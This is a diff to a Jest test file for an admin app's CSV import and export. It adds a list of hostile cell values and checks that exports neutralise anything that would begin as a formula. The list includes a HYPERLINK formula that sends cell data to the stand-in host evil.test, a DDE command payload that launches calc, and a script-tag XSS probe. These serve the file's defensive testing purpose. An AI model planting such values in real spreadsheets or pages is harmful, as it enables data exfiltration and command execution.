@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
 import type { Imported } from '#engine/contract/index.ts';
 import type { Json, JsonObject } from '#engine/definition/index.ts';
@@ -14,6 +15,27 @@ const DEFINITIONS: JsonObject[] = [
       { name: 'id', type: 'pk' },
       { name: 'merchant_id', type: 'number', list: false },
       { name: 'name', type: 'string' },
+    ],
+  },
+  {
+    name: 'in/text',
+    title: 'Texts',
+    table: 'in_text',
+    export: true,
+    import: true,
+    fields: [
+      { name: 'id', type: 'pk' },
+      { name: 'note', type: 'textarea', title: '=Note' },
+      { name: 'maker_id', type: 'remoteSelect', title: '@Maker', relation: { definition: 'in/maker' } },
+      {
+        name: 'marks',
+        type: 'checkbox',
+        title: '-Marks',
+        options: [
+          { key: 'a', label: '=A' },
+          { key: 'b', label: '+B' },
+        ],
+      },
     ],
   },
   {
@@ -58,17 +80,34 @@ const DEFINITIONS: JsonObject[] = [
     ],
   },
 ];
+/** Texts that spreadsheets, readers of CSV and pages may each take for something else. */
+const HOSTILE = [
+  '=HYPERLINK("http://evil.test?x="&A1,"click")',
+  "'=1+1",
+  "''@sum(A1)",
+  "'",
+  '＝1+1',
+  '\t=1',
+  '+8613900001234',
+  "-2+3+cmd|' /C calc'!A0",
+  '<script>alert(1)</script>',
+  'a;=1,b\tc',
+  '"',
+  'one\r\ntwo\rthree\nfour',
+  'مرحبا \u202Eecruos\u202C',
+  '👩‍👩‍👧‍👦🏳️‍🌈 𝒳',
+  '\uFEFFmark',
+];
 const NODES = ['in/good/index', 'in/good/add', 'in/good/import', 'in/maker/index'];
-const IMPORT = '/admin/rest/in/good/import';
 
 describe.each(DATABASE_KINDS)('rows of a file on %s', (kind) => {
   let app: RecordApp;
   let seven: Call;
   const rows = (where = 'true') => app.sql(`select * from in_good where ${where} order by id`);
-  const send = (call: Call, csv: Json, trial = false) =>
-    call('POST', IMPORT, { csv, trial }, { 'think-lang': 'en' });
-  const imported = async (call: Call, csv: string, trial = false) =>
-    bodyOf(await send(call, csv, trial), 200) as unknown as Imported;
+  const send = (call: Call, csv: Json, trial = false, name = 'in/good') =>
+    call('POST', `/admin/rest/${name}/import`, { csv, trial }, { 'think-lang': 'en' });
+  const imported = async (call: Call, csv: string, trial = false, name?: string) =>
+    bodyOf(await send(call, csv, trial, name), 200) as unknown as Imported;
   beforeAll(async () => {
     app = await startRecordApp(kind, '', DEFINITIONS);
     await app.sql(
@@ -105,6 +144,51 @@ describe.each(DATABASE_KINDS)('rows of a file on %s', (kind) => {
       expect(plain(await rows())).toEqual(plain(before));
     }
     await app.sql('delete from in_good');
+  });
+
+  test('come back to the letter whatever they hold, and none begins as a formula does', async () => {
+    const [maker] = await app.sql(
+      `insert into in_maker (name, merchant_id) values ('=Maker', 7) returning id`,
+    );
+    const path = `/admin/rest/in/text?export=csv&sort=${encodeURIComponent('["id","ASC"]')}`;
+    for (const note of HOSTILE) {
+      const row = { note, maker_id: Number(maker?.['id']), marks: ['a', 'b'] };
+      bodyOf(await app.call('POST', '/admin/rest/in/text', row), 201);
+    }
+    const stored = () => app.sql('select note, maker_id, marks from in_text order by id');
+    const before = await stored();
+    expect(before.map(({ note }) => note)).toEqual(HOSTILE);
+    const file = await app.call('GET', `${path}&columns=note,maker_id,marks`);
+    const cells = parse(String(file.body), { bom: true }).flat();
+    expect(cells.slice(0, 3)).toEqual(["'=Note", "'@Maker", "'-Marks"]);
+    expect(cells.filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^[+-]\d+$/.test(cell))).toEqual(
+      [],
+    );
+    await app.sql('delete from in_text');
+    const answer = await imported(app.call, String(file.body), false, 'in/text');
+    expect(answer).toMatchObject({ added: HOSTILE.length, refusedCount: 0, ignored: [] });
+    expect(await stored()).toEqual(before);
+    await app.sql('delete from in_text');
+  });
+
+  test('may hold texts of megabytes; a file that is too large is refused in plain words', async () => {
+    const note = '=A line, with "quotes".\n'.repeat(300_000);
+    bodyOf(await app.call('POST', '/admin/rest/in/text', { note }), 201);
+    const file = await app.call('GET', '/admin/rest/in/text?export=csv&columns=note');
+    await app.sql('delete from in_text');
+    expect(await imported(app.call, String(file.body), false, 'in/text')).toMatchObject({ added: 1 });
+    expect(await app.sql('select note = $q$' + note + '$q$ as same from in_text')).toEqual([{ same: true }]);
+    await app.sql('delete from in_text');
+    for (const [language, message] of [
+      ['en', 'The request is too large.'],
+      ['zh-cn', '请求内容过大。'],
+    ]) {
+      const csv = `=Note\n${'x'.repeat(11 * 1024 * 1024)}\n`;
+      const path = '/admin/rest/in/text/import';
+      const refused = await app.call('POST', path, { csv }, { 'think-lang': language ?? '' });
+      expect([refused.status, (refused.body as JsonObject)['message']]).toEqual([413, message]);
+    }
+    expect(await app.sql('select id from in_text')).toEqual([]);
   });
 
   test('are tried without leaving anything, and told line by line', async () => {
